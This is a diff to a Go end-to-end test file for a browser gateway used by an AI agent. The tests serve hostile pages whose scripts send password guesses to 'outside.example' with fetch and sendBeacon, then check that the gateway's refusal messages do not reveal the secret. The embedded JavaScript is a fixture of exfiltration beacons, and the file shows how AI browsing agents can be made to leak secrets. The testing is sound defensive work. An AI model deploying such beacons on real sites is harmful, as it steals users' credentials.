@@ -41,6 +41,20 @@ func refusalsUntil(t *testing.T, call func(string, map[string]any) string, repli
 	return replies
 }
 
+// onHostilePage starts a daemon whose secret is password, serves
+// guessSites with a hostile page that runs script, and takes the
+// session's tab to it.
+func onHostilePage(t *testing.T, password, script string) (call func(string, map[string]any) string, site string) {
+	t.Helper()
+	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
+	site, evil := guessSites(t, servePage(func() string {
+		return `<!doctype html><title>Hostile</title><p id=ready>ready</p><script>` + script + `</script>`
+	}))
+	call = allowedCaller(t, d.connect(t, "alice-token"))
+	call("navigate", map[string]any{"url": evil + "/"})
+	return call, site
+}
+
 // TestAnotherTabsRefusedGuessesAreNoOracle: the hostile page in the
 // session's first tab sends its guesses to a host outside the scope while
 // the agent works on the secret's site in another tab (no secret typed).
@@ -63,6 +77,26 @@ func TestAnotherTabsRefusedGuessesAreNoOracle(t *testing.T) {
 	}
 }
 
+// TestAnotherTabsGuessesWhileTheSecretIsHeldAreWithheld: the hostile
+// page in the session's first tab keeps sending its guesses to a host
+// outside the scope while the agent types the secret on its site in
+// another tab. Once the binding holds the secret, a refusal of a page not
+// masked for it is withheld whole (in clear its URL could hold the value;
+// masked, the guesses would tell): the replies that follow list both
+// guesses alike, withheld.
+func TestAnotherTabsGuessesWhileTheSecretIsHeldAreWithheld(t *testing.T) {
+	t.Parallel()
+	const password = "Rev5-H3ld-T4b-6620"
+	call, site := onHostilePage(t, password, `setInterval(() => { for (const g of ['`+wrongGuess+`', '`+password+`']) fetch('http://outside.example/?g=' + g).catch(() => 0); }, 100);`)
+	call("new_tab", map[string]any{"url": site + "/"})
+	call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
+	replies := refusalsUntil(t, call, "", 4)
+	refusalsAlike(t, replies, password)
+	if strings.Contains(replies, "g="+password) || strings.Contains(replies, "g="+wrongGuess) {
+		t.Errorf("a refusal of a page not masked for the secret the binding held is shown:\n%s", replies)
+	}
+}
+
 // TestGuessesSentAsTheAgentLeavesForTheSecretsSiteAreNoOracle: the
 // hostile page sends beacons with its guesses to a host outside the scope
 // as it is unloaded, when the agent takes the tab from it to the secret's
@@ -74,17 +108,9 @@ func TestAnotherTabsRefusedGuessesAreNoOracle(t *testing.T) {
 func TestGuessesSentAsTheAgentLeavesForTheSecretsSiteAreNoOracle(t *testing.T) {
 	t.Parallel()
 	const password = "Rev5-Unl0ad-7714"
-	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
-	site, evil := guessSites(t, servePage(func() string {
-		return `<!doctype html><title>Hostile</title><p id=ready>ready</p>
-<script>
-addEventListener('pagehide', () => {
-  for (const g of ['` + wrongGuess + `', '` + password + `']) navigator.sendBeacon('http://outside.example/?g=' + g, 'x');
-});
-</script>`
-	}))
-	call := allowedCaller(t, d.connect(t, "alice-token"))
-	call("navigate", map[string]any{"url": evil + "/"})
+	call, site := onHostilePage(t, password, `addEventListener('pagehide', () => {
+  for (const g of ['`+wrongGuess+`', '`+password+`']) navigator.sendBeacon('http://outside.example/?g=' + g, 'x');
+});`)
 	call("wait_for", map[string]any{"selector": "#ready"})
 	replies := call("navigate", map[string]any{"url": site + "/"})
 	replies = refusalsUntil(t, call, replies, 2)
